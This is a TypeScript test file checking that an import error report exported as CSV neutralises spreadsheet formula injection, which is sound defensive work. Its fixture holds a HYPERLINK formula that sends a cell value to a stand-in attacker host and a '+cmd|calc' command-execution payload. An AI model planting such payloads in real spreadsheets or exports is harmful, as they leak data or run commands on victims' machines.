/**
 * The error report (/imports/<id>/errors.csv) carries the user's rejected values back into a spreadsheet: a
 * value that Excel would run as a formula must come out as text.
 */
import { describe, expect, it } from 'vitest';
import { errorReportResponse } from '../../../app/lib/ingest.server';
import { getImportForActor } from '../../../server/ingest/imports.service';
import { CsvSplitter } from '../../../server/ingest/csv';
import { makeTenant } from '../../factories/tenant';
import { useTestServices } from '../../support/db';
import { importFile, writeTmp } from './helpers';

const h = useTestServices();

function parse(text: string): string[][] {
  const rows: string[][] = [];
  const s = new CsvSplitter(',', (v) => rows.push(v));
  s.push(text.replace(/^\ufeff/, ''));
  s.end();
  return rows;
}

describe('import error report', () => {
  it('neutralises formulas in rejected values, headers and every other cell', async () => {
    const t = await makeTenant(h.services);
    const csv = ['订单号,支付时间,数量,单价,@备注', 'A1,2025-03-01 10:00:00,1,10.00,ok', 'A2,2025-03-01 10:00:00,=HYPERLINK("http://evil.example/?x"&A1),10.00,+cmd|calc', 'A3,not a date,1,-5.00,-1+1'].join('\n') + '\n';
    const file = writeTmp(`formula-${t.slug}.csv`, csv);
    const { id, summary } = await importFile(h.services, t.actor, file, { columns: { order_no: '订单号', paid_at: '支付时间', quantity: '数量', unit_price: '单价' } });
    expect(summary).toMatchObject({ status: 'done', rows_read: 3, rows_rejected: 2 });
    const res = errorReportResponse(await getImportForActor(h.services, t.actor, id));
    expect(res?.headers.get('content-type')).toContain('text/csv');
    const rows = parse(await res!.text());
    expect(rows[0]!.slice(4)).toEqual(['订单号', '支付时间', '数量', '单价', "'@备注"]);
    const a2 = rows.find((r) => r[4] === 'A2')!;
    expect(a2[6]).toBe(`'=HYPERLINK("http://evil.example/?x"&A1)`);
    expect(a2[8]).toBe("'+cmd|calc");
    const a3 = rows.find((r) => r[4] === 'A3')!;
    // a plain negative number is not a formula and stays a number; an expression is guarded
    expect(a3.slice(7)).toEqual(['-5.00', "'-1+1"]);
    // no cell of the report starts like a formula
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
  });
});
